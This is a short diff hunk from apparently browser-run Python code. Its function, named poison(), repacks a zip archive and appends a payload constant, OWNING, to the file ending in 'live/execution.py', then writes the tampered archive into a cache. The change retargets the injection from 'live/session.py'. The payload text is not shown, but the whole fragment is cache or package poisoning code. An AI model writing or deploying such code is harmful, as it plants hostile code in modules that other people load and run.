@@ -148,7 +148,7 @@ async def poison():
             with zipfile.ZipFile(made, "w", zipfile.ZIP_DEFLATED) as out:
                 for name in whole.namelist():
                     content = whole.read(name)
-                    if name.endswith("live/session.py"):
+                    if name.endswith("live/execution.py"):
                         content += OWNING.encode()
                     out.writestr(name, content)
             await kept.put(key, js.Response.new(to_js(made.getvalue())))
